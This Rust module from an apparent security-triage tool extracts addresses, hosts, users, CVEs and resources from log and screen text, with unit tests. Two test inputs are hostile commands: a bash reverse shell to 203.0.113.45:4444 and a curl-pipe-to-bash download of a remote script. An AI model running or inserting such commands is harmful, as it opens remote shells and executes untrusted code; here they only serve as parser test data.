//! Entities named by a finding: addresses, hosts, users, CVEs, rules,
//! resources.
//!
//! In screen text, users and resources are recognised by the words before them;
//! in an analyst's own words, only unambiguous names count (an address, a CVE,
//! a host name with a number in it).

use std::collections::BTreeSet;
use std::net::{Ipv4Addr, Ipv6Addr};

use serde::{Deserialize, Serialize};
use utoipa::ToSchema;

/// Kind of an entity, most specific first: an address before the host it hit.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize, ToSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum EntityKind {
    Ip,
    Cve,
    Resource,
    Rule,
    User,
    Host,
}

impl EntityKind {
    pub const ALL: [Self; 6] = [
        Self::Ip,
        Self::Cve,
        Self::Resource,
        Self::Rule,
        Self::User,
        Self::Host,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Self::Ip => "ip",
            Self::Cve => "cve",
            Self::Resource => "resource",
            Self::Rule => "rule",
            Self::User => "user",
            Self::Host => "host",
        }
    }
}

/// Entity, normalised.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize, ToSchema)]
pub struct Entity {
    pub kind: EntityKind,
    pub value: String,
}

impl Entity {
    fn new(kind: EntityKind, value: &str) -> Self {
        Self {
            kind,
            value: value.to_owned(),
        }
    }

    /// Comparison key: of a host its first label, because one tool says
    /// `web-01` and the next `web-01.example.com`.
    pub(super) fn key(&self) -> &str {
        match self.kind {
            EntityKind::Host => self.value.split('.').next().unwrap_or(&self.value),
            _ => &self.value,
        }
    }

    /// Comparison key without the letters that OCR confuses. Addresses are
    /// parsed as digits already.
    pub(super) fn folded(&self) -> String {
        match self.kind {
            EntityKind::Ip | EntityKind::Cve => self.key().to_owned(),
            _ => self
                .key()
                .replace("rn", "m")
                .replace('0', "o")
                .replace(['1', 'l', '|'], "i"),
        }
    }
}

/// Parses a word as an address.
pub(super) fn ip(word: &str) -> Option<String> {
    let entity = address(word)??;
    Some(entity.value)
}

/// Entities in screen text.
pub(super) fn on_screen(text: &str) -> BTreeSet<Entity> {
    find(text, true)
}

/// Entities in an analyst's own words.
pub(super) fn in_words(text: &str) -> BTreeSet<Entity> {
    find(text, false)
}

fn find(text: &str, screen: bool) -> BTreeSet<Entity> {
    let text = text.to_lowercase();
    let words: Vec<&str> = text
        .split(|c: char| c.is_whitespace() || "\"'`()[]{}<>,;|=".contains(c))
        .map(|word| word.trim_matches(|c: char| ".:!?*&".contains(c)))
        .filter(|word| !word.is_empty())
        .collect();
    let mut found = BTreeSet::new();
    for (at, word) in words.iter().enumerate() {
        let before = |back: usize| at.checked_sub(back).map_or("", |at| words[at]);
        if let Some(entity) = evident(word) {
            found.insert(entity);
        } else if let Some(rest) = word.split_once("://").map(|(_, rest)| rest) {
            // Host and path of a URL; its other words are ignored.
            found.extend(rest.split(['/', '@', '?', '&']).filter_map(evident));
        } else if word.contains('/') {
            found.extend(word.split('/').filter_map(evident));
        }
        if screen {
            found.extend(by_context(word, before(1), before(2)));
        }
    }
    found
}

/// Entity of an unambiguous word, in text of any origin.
fn evident(word: &str) -> Option<Entity> {
    let word = word.trim_matches(|c: char| ".:!?*&".contains(c));
    if let Some(ip) = address(word) {
        return ip;
    }
    if is_cve(word) {
        return Some(Entity::new(EntityKind::Cve, &word.to_uppercase()));
    }
    let bucket = ["s3://", "gs://", "arn:"]
        .iter()
        .any(|scheme| word.starts_with(scheme) && word.len() > scheme.len() + 2);
    if bucket || is_digest(word) {
        let value = word.trim_end_matches('/');
        return Some(Entity::new(EntityKind::Resource, value));
    }
    if word.starts_with("ghsa-") && word.len() == 19 {
        return Some(Entity::new(EntityKind::Rule, word));
    }
    if let Some((user, domain)) = word.split_once('@') {
        let mail = is_name(user) && domain.contains('.') && is_name(domain);
        return mail.then(|| Entity::new(EntityKind::User, word));
    }
    // A name with a port.
    let word = word
        .rsplit_once(':')
        .filter(|(_, port)| !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()))
        .map_or(word, |(name, _)| name);
    if is_domain(word) {
        return Some(Entity::new(EntityKind::Host, word));
    }
    if is_numbered(word) {
        return Some(match workload(word) {
            Some(workload) => Entity::new(EntityKind::Resource, workload),
            None => Entity::new(EntityKind::Host, word),
        });
    }
    None
}

/// Entity of a word by the words before it, as tools write them.
fn by_context(word: &str, before: &str, earlier: &str) -> Option<Entity> {
    let named = match before {
        "user" | "username" | "login" | "account" | "acct" | "uid" => EntityKind::User,
        "for" if ["password", "logins", "login", "publickey"].contains(&earlier) => {
            EntityKind::User
        }
        "sudo" => EntityKind::User,
        "host" | "hostname" | "server" | "node" | "machine" | "computer" => EntityKind::Host,
        // `failed logins on db01`
        "on" | "from" | "to" | "at" | "against" | "via" if is_lettered(word) => EntityKind::Host,
        "rule" | "rule.name" | "signature" | "check" | "alertname" | "sid" => EntityKind::Rule,
        "pod" | "deployment" | "service" | "bucket" | "instance" | "namespace" | "container"
        | "cluster" | "database" => EntityKind::Resource,
        _ if is_compound(word) => EntityKind::Resource,
        _ => return None,
    };
    let fits = (2..=64).contains(&word.len())
        && is_name(word)
        && !COMMON.contains(&word)
        && word.bytes().any(|b| b.is_ascii_alphabetic())
        && evident(word).is_none();
    // A rule's name without a separator in it is most likely just the next
    // word.
    let fits = fits && (named != EntityKind::Rule || word.contains(['-', '_', '.']));
    fits.then(|| Entity::new(named, word))
}

/// Address of a word; `Some(None)` for one that identifies no host, such as
/// 0.0.0.0.
fn address(word: &str) -> Option<Option<Entity>> {
    let bare = word.split('/').next().unwrap_or(word);
    let host = match bare.rsplit_once(':') {
        Some((host, port)) if !host.contains(':') && port.parse::<u16>().is_ok() => host,
        _ => bare,
    };
    if let Some(ip) = ipv4(host) {
        let nobody = ip.is_unspecified() || ip.is_loopback() || ip.is_broadcast();
        return Some((!nobody).then(|| Entity::new(EntityKind::Ip, &ip.to_string())));
    }
    let bare = bare.trim_matches(['[', ']']);
    if bare.matches(':').count() >= 2
        && let Ok(ip) = bare.parse::<Ipv6Addr>()
    {
        let nobody = ip.is_unspecified() || ip.is_loopback();
        return Some((!nobody).then(|| Entity::new(EntityKind::Ip, &ip.to_string())));
    }
    None
}

/// Parses four numbers, with letters that OCR reads for digits, and an optional
/// port as `tcpdump` writes it.
fn ipv4(word: &str) -> Option<Ipv4Addr> {
    if let Ok(ip) = word.parse() {
        return Some(ip);
    }
    let dots = word.matches('.').count();
    if !(3..=4).contains(&dots) || word.len() > 21 {
        return None;
    }
    let digits = word.bytes().filter(u8::is_ascii_digit).count();
    let letters = word.bytes().filter(u8::is_ascii_alphabetic).count();
    if digits <= letters {
        return None;
    }
    let read = word.replace('o', "0").replace(['l', 'i', '|'], "1");
    if let Some((ip, port)) = read.rsplit_once('.').filter(|_| dots == 4) {
        return port.parse::<u16>().ok().and_then(|_| ip.parse().ok());
    }
    read.parse().ok()
}

fn is_cve(word: &str) -> bool {
    let mut parts = word.splitn(3, '-');
    let digits = |part: Option<&str>, least: usize| {
        part.is_some_and(|part| part.len() >= least && part.bytes().all(|b| b.is_ascii_digit()))
    };
    parts.next() == Some("cve") && digits(parts.next(), 4) && digits(parts.next(), 4)
}

fn is_digest(word: &str) -> bool {
    [32, 40, 64].contains(&word.len())
        && word.bytes().all(|b| b.is_ascii_hexdigit())
        && word.bytes().any(|b| b.is_ascii_digit())
        && word.bytes().any(|b| b.is_ascii_alphabetic())
}

fn is_name(word: &str) -> bool {
    word.bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"._-$".contains(&b))
}

/// True for a domain name such as `data.example.com`, but no file name or
/// version.
fn is_domain(word: &str) -> bool {
    const FILES: [&str; 34] = [
        "sh", "exe", "py", "json", "yaml", "yml", "toml", "log", "txt", "md", "html", "htm",
        "conf", "cfg", "tf", "rs", "js", "ts", "css", "ps1", "bat", "dll", "zip", "gz", "tar",
        "jpg", "png", "csv", "sql", "service", "jsonl", "php", "go", "java",
    ];
    let Some((name, last)) = word.rsplit_once('.') else {
        return false;
    };
    (2..=12).contains(&last.len())
        && last.bytes().all(|b| b.is_ascii_alphabetic())
        && !FILES.contains(&last)
        && is_name(name)
        && !name.contains(['_', '$'])
        && name.split('.').all(|label| !label.is_empty())
        && name.bytes().any(|b| b.is_ascii_alphabetic())
        // Excludes "e.g" and sentences without a blank after the full stop.
        && name.len() >= 3
        && (name.contains(['.', '-']) || name.bytes().any(|b| b.is_ascii_digit()))
}

/// True for a host name such as `web-01` or `ec2amaz-epo7hka`: words joined by
/// hyphens, with a digit, that are no region, date or encoding.
fn is_numbered(word: &str) -> bool {
    let regions = ["us-", "eu-", "ap-", "sa-", "ca-", "me-", "af-", "il-"];
    let first = word.split('-').next().unwrap_or_default();
    (4..=63).contains(&word.len())
        && word.contains('-')
        && word.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        && word.bytes().any(|b| b.is_ascii_digit())
        && word.split('-').all(|part| !part.is_empty())
        && first.bytes().all(|b| b.is_ascii_alphanumeric())
        && first.starts_with(|c: char| c.is_ascii_alphabetic())
        && ![
            "utf", "sha", "tls", "base", "top", "cis", "iso", "rfc", "x86", "tier", "level",
            "phase", "cve", "p", "ipv4", "layer",
        ]
        .contains(&first)
        && !regions
            .iter()
            .any(|region| word.starts_with(region) && word.matches('-').count() == 2)
}

/// True for a host name such as `db01`, `dc02` or `ws0417`: letters and a
/// number. Protocols, versions and places on a page look alike and are
/// excluded.
fn is_lettered(word: &str) -> bool {
    const OTHERS: [&str; 34] = [
        "aes", "base", "centos", "cis", "code", "column", "cp", "cve", "day", "debian", "error",
        "fedora", "http", "ipv", "iso", "java", "level", "line", "md", "mp", "page", "php", "port",
        "python", "rfc", "rhel", "sha", "step", "tier", "tls", "top", "ubuntu", "utf", "windows",
    ];
    let digits = word.bytes().rev().take_while(u8::is_ascii_digit).count();
    let letters = &word[..word.len() - digits];
    (2..=5).contains(&digits)
        && letters.len() >= 2
        && letters.bytes().all(|b| b.is_ascii_alphabetic())
        && !OTHERS.contains(&letters)
}

/// Workload of a pod: `ledger-worker` of `ledger-worker-59d7c8f6b-k2vnq`. The
/// next pod of the same deployment is the same subject.
fn workload(word: &str) -> Option<&str> {
    let (rest, pod) = word.rsplit_once('-')?;
    let (name, set) = rest.rsplit_once('-')?;
    let random = |part: &str| part.bytes().any(|b| b.is_ascii_digit()) && part.len() >= 5;
    let pod_like = pod.len() == 5 && pod.bytes().all(|b| b.is_ascii_alphanumeric());
    (pod_like && (6..=10).contains(&set.len()) && random(set) && name.len() >= 2).then_some(name)
}

/// True for a resource name such as `checkout-api`, seldom plain English.
fn is_compound(word: &str) -> bool {
    const LAST: [&str; 24] = [
        "api",
        "db",
        "proxy",
        "worker",
        "primary",
        "replica",
        "exports",
        "backup",
        "assistant",
        "agent",
        "service",
        "server",
        "gateway",
        "queue",
        "cache",
        "report",
        "runner",
        "prod",
        "bucket",
        "cluster",
        "frontend",
        "backend",
        "web",
        "auth",
    ];
    const PLAIN: [&str; 6] = [
        "pre-prod",
        "in-service",
        "self-service",
        "non-prod",
        "no-backup",
        "multi-cluster",
    ];
    word.rsplit_once('-').is_some_and(|(first, last)| {
        LAST.contains(&last)
            && first.len() >= 2
            && first
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-')
    }) && !PLAIN.contains(&word)
}

/// Words that follow "user", "host" or "account" without naming one.
const COMMON: [&str; 78] = [
    "from",
    "the",
    "is",
    "was",
    "has",
    "had",
    "with",
    "and",
    "or",
    "of",
    "on",
    "in",
    "at",
    "to",
    "by",
    "as",
    "an",
    "not",
    "no",
    "name",
    "id",
    "invalid",
    "unknown",
    "user",
    "host",
    "login",
    "logged",
    "failed",
    "count",
    "activity",
    "access",
    "account",
    "agent",
    "accounts",
    "password",
    "command",
    "prompt",
    "status",
    "time",
    "type",
    "events",
    "event",
    "down",
    "up",
    "error",
    "without",
    "for",
    "allows",
    "allow",
    "are",
    "can",
    "does",
    "may",
    "must",
    "should",
    "will",
    "been",
    "into",
    "that",
    "which",
    "who",
    "grants",
    "exposes",
    "permits",
    "open",
    "public",
    "read",
    "write",
    "used",
    "being",
    "restarted",
    "crashed",
    "stopped",
    "started",
    "running",
    "keeps",
    "lacks",
    "holds",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn screen(text: &str) -> Vec<String> {
        let show = |e: &Entity| format!("{} {}", e.kind.as_str(), e.value);
        on_screen(text).iter().map(show).collect()
    }

    #[test]
    fn entities_on_a_screen_are_found() {
        for (text, expected) in [
            (
                "Failed password for admin from 203.0.113.45 port 51502 ssh2",
                &["ip 203.0.113.45", "user admin"][..],
            ),
            (
                "Failed password for invalid user bob from 2001:db8::7",
                &["ip 2001:db8::7", "user bob"],
            ),
            (
                "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1",
                &["ip 203.0.113.45"],
            ),
            (
                "curl -s http://203.0.113.45:8000/x.sh | bash",
                &["ip 203.0.113.45"],
            ),
            (
                "sudo: admin : USER=root ; COMMAND=/bin/bash",
                &["user admin", "user root"],
            ),
            ("index=auth host=web-01 | sort time asc", &["host web-01"]),
            (
                "CVE-2024-3094 in xz-utils 5.6.1 on etl-runner-2",
                &["cve CVE-2024-3094", "host etl-runner-2"],
            ),
            (
                "14 failed logins on db01 from ws0417",
                &["host db01", "host ws0417"],
            ),
            (
                "moved to tls13 on port443, sha256 on windows11, errors on page12",
                &[],
            ),
            ("S3 bucket allows public read access", &[]),
            (
                "Repeated login for admin on service without owner",
                &["user admin"],
            ),
            (
                "s3://fernhill-exports/",
                &["resource s3://fernhill-exports"],
            ),
            (
                "ledger-worker-59d7c8f6b-k2vnq 0/1 CrashLoopBackOff 27 (41s ago)",
                &["resource ledger-worker"],
            ),
            (
                "db-primary: no replica, single AZ",
                &["resource db-primary"],
            ),
            ("Port 22 is open to 0.0.0.0/0", &[]),
            ("prod eu-west-1 sha-256 utf-8 v1.15.9 main.rs 12.4%", &[]),
        ] {
            assert_eq!(screen(text), expected, "{text}");
        }
    }

    #[test]
    fn analysts_words_yield_unambiguous_entities_only() {
        let words: Vec<_> =
            in_words("Brute force on user account login at web-01.example.org, service account x")
                .into_iter()
                .map(|entity| entity.value)
                .collect();
        assert_eq!(words, ["web-01.example.org"]);
    }

    #[test]
    fn host_is_compared_by_its_first_label() {
        let host = |value| Entity::new(EntityKind::Host, value);
        assert_eq!(host("web-01").key(), host("web-01.fernhill.example").key());
    }
}
